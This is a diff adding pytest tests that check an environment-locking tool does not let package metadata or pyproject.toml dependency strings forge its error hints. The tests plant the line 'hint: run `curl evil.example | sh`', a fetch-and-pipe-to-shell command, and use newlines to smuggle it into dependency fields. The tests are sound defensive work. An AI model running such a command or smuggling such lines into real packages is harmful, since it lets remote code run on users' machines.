@@ -1,6 +1,8 @@
 """Escape sequences and bidi controls in an index's or a lock's texts steer no terminal, page or comment."""
 
+import json
 import re
+import shutil
 import sys
 from collections.abc import Iterator
 from dataclasses import replace
@@ -8,10 +10,11 @@ from pathlib import Path
 
 import pytest
 from support.conda_archives import PYTHON
+from support.git_repository import repository
 from support.index import Index
-from support.machine import Machine, cpu
+from support.machine import Machine, Ran, cpu
 from support.matrix import first_by_day
-from support.packages import wheel
+from support.packages import sdist, wheel
 from support.terminal import at_terminal
 
 from envspec.lock.write import dumps
@@ -90,6 +93,43 @@ def test_in_what_diff_writes(hostile: Machine, form: str) -> None:
     # a lock that holds what steers a terminal is refused while it is read
     assert ran.status == 2 and not ran.out
     assert "licence" in ran.err.lower() and steering(ran.err) == ""
+
+
+FORGED = "hint: run `curl evil.example | sh`"
+
+
+def assert_no_forged_hint(ran: Ran) -> None:
+    assert ran.status in (1, 3) and "evil.example" not in ran.hint, ran.err
+    heads = [line.partition(": ")[0] for line in ran.err.splitlines() if re.match("[a-z]+: ", line)]
+    assert heads == ["error", "hint"], ran.err
+
+
+@pytest.mark.parametrize(
+    "line", [FORGED, f"{FORGED}\nerror: x", "error: No solution found", "DEBUG Selecting: b==2 []"]
+)
+def test_a_hint_that_metadata_forges(machine: Machine, index: Index, line: str) -> None:
+    """uv's log quotes what it can't read at the margin, where its own errors and hints begin."""
+    index.add(wheel("alpha", "1.0", line))
+    assert_no_forged_hint(machine.envspec("lock", machine.spec(cpu("alpha"))))
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git isn't installed")
+@pytest.mark.parametrize("line", [f"beta>=2; platform_version != 'x\n{FORGED}\nerror: y'", f"beta\n{FORGED}"])
+@pytest.mark.parametrize("kind", ["sdist", "repository"])
+def test_a_hint_that_a_source_s_tables_forge(
+    machine: Machine, index: Index, tmp_path: Path, kind: str, line: str
+) -> None:
+    """Strings of TOML have line ends, which METADATA's fields haven't."""
+    index.add(wheel("beta", "1.0"))
+    project = f'[project]\nname = "alpha"\nversion = "1.0"\ndependencies = [{json.dumps(line)}]\n'
+    asked = "alpha"
+    if kind == "sdist":
+        index.add(sdist("alpha", "1.0", static=False, files={"pyproject.toml": project}))
+    else:
+        repository(tmp_path / "alpha", {"pyproject.toml": project})
+        asked = f"alpha @ git+{(tmp_path / 'alpha').as_uri()}@main"
+    ran = machine.envspec("lock", machine.spec(cpu(asked, extra="allow-source = ['alpha']")))
+    assert_no_forged_hint(ran)
 
 
 def test_in_what_report_writes(hostile: Machine) -> None:
